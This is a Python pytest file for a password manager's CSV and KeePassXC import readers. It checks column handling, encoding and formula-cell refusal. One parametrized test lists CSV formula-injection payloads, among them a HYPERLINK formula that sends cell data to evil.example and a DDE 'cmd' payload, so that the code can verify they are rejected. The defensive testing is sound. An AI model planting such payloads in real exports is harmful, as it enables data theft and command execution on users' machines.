"""The generic CSV reader and the KeePassXC CSV reader."""

from __future__ import annotations

import pytest

from sparekey.transfer.formats import read_import
from sparekey.transfer.items import ImportRefused
from tests.transfer.fixtures import (
    TOTP_URI,
    corpus_codes,
    corpus_text,
    csv_file,
    keepassxc_csv,
)


def generic(data: bytes) -> list:
    return read_import([("accounts.csv", data)], format="csv")


def keepassxc(data: bytes) -> list:
    return read_import([("keepassxc.csv", data)], format="keepassxc-csv")


def test_a_generic_csv_with_the_usual_columns() -> None:
    data = csv_file(
        ["Name", "App", "Username", "Password", "TOTP", "Notes", "Backup codes", "Owner"],
        [
            [
                "Brand X",
                "X",
                "@brandx",
                "pw-pw-pw",
                TOTP_URI,
                "Shared",
                corpus_text("github-file"),
                "Alice",
            ],
            ["Registrar", "Gandi", "", "", "", corpus_text("google-file"), "", ""],
        ],
    )
    x, registrar = generic(data)
    assert (x.name, x.app, x.username, x.password, x.totp) == (
        "Brand X",
        "X",
        "@brandx",
        "pw-pw-pw",
        TOTP_URI,
    )
    assert x.codes[0].codes == corpus_codes("github-file")
    assert x.notes == "Shared\n\nOwner: Alice"
    assert x.origin == "row 2"
    assert registrar.codes[0].codes == corpus_codes("google-file")


def test_aliases_and_case_of_column_names() -> None:
    data = csv_file(
        ["TITLE", "login_uri", "E-mail", "login_password", "Folder"],
        [["A", "https://a.example", "a@example.com", "pw", "Team"]],
    )
    (account,) = generic(data)
    assert account.login_url == "https://a.example"
    assert account.username == "a@example.com"
    assert account.password == "pw"
    assert account.origin == "Team, row 2"


def test_semicolon_separated_files_of_european_spreadsheets() -> None:
    (account,) = generic(b"name;username;notes\r\nA;alice;hello\r\n")
    assert (account.name, account.username, account.notes) == ("A", "alice", "hello")


def test_a_missing_name_column_is_refused_naming_it() -> None:
    with pytest.raises(ImportRefused, match="“name” column"):
        generic(csv_file(["username", "password"], [["a", "b"]]))


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example/?"&B2,"Click")',
        "=1+1",
        "@SUM(A1:A9)",
        "+cmd|' /C calc'!A0",
        "-HYPERLINK(1)",
    ],
)
def test_a_formula_cell_is_refused_without_quoting_it(cell: str) -> None:
    data = csv_file(["name", "username", "password"], [["Brand X", cell, "secret-pw"]])
    with pytest.raises(ImportRefused) as refusal:
        generic(data)
    assert "Row 2, column “username”" in refusal.value.reason
    assert cell not in refusal.value.reason and cell[:4] not in refusal.value.reason


@pytest.mark.parametrize("cell", ["@brandx", "+49 30 1234567", "- see notes", "-", "@"])
def test_ordinary_values_starting_like_formulas_are_kept(cell: str) -> None:
    (account,) = generic(csv_file(["name", "username"], [["A", cell]]))
    assert account.username == cell


def test_a_password_that_looks_like_a_formula_is_not_refused() -> None:
    (account,) = generic(csv_file(["name", "password"], [["A", "=secret(1)"]]))
    assert account.password == "=secret(1)"


def test_an_unclosed_quote_is_refused() -> None:
    with pytest.raises(ImportRefused, match="damaged"):
        generic(b'name,notes\r\nA,"never closed\r\n')


def test_non_utf8_text_is_refused() -> None:
    with pytest.raises(ImportRefused, match="UTF-8"):
        generic("name,notes\r\nA,Grüße\r\n".encode("latin-1"))


def test_blank_rows_are_skipped() -> None:
    assert len(generic(b"name\r\nA\r\n,\r\n\r\nB\r\n")) == 2


def test_a_keepassxc_export() -> None:
    data = keepassxc_csv(
        [
            {
                "Group": "Root/Social",
                "Title": "X",
                "Username": "@brandx",
                "Password": "pw",
                "URL": "https://x.com",
                "Notes": f"Backup codes:\n{corpus_text('gitlab-file')}",
                "TOTP": TOTP_URI,
                "Icon": "0",
                "Last Modified": "2026-01-01T10:00:00Z",
                "Created": "2026-01-01T10:00:00Z",
            }
        ]
    )
    (account,) = keepassxc(data)
    assert (account.name, account.username, account.login_url, account.totp) == (
        "X",
        "@brandx",
        "https://x.com",
        TOTP_URI,
    )
    assert account.codes[0].codes == corpus_codes("gitlab-file")
    assert account.notes == ""
    assert account.origin == "Root/Social, row 2"


def test_a_generic_csv_is_not_taken_for_a_keepassxc_export() -> None:
    with pytest.raises(ImportRefused, match="KeePassXC"):
        keepassxc(csv_file(["name", "password"], [["A", "b"]]))


def test_a_formula_in_a_keepassxc_title_is_refused() -> None:
    with pytest.raises(ImportRefused, match="formula"):
        keepassxc(keepassxc_csv([{"Group": "Root", "Title": "=WEBSERVICE(1)"}]))


def test_multi_line_notes_in_a_quoted_cell() -> None:
    notes = f"Shared.\r\nRecovery codes:\r\n{corpus_text('github-file')}"
    (account,) = generic(csv_file(["name", "notes"], [["GitHub", notes]]))
    assert account.codes[0].codes == corpus_codes("github-file")
    assert account.notes == "Shared."


def test_a_line_separator_character_in_a_cell_does_not_split_the_row() -> None:
    (account,) = generic("name,notes\r\nA,one\u2028two\r\n".encode())
    assert account.notes == "one\u2028two"
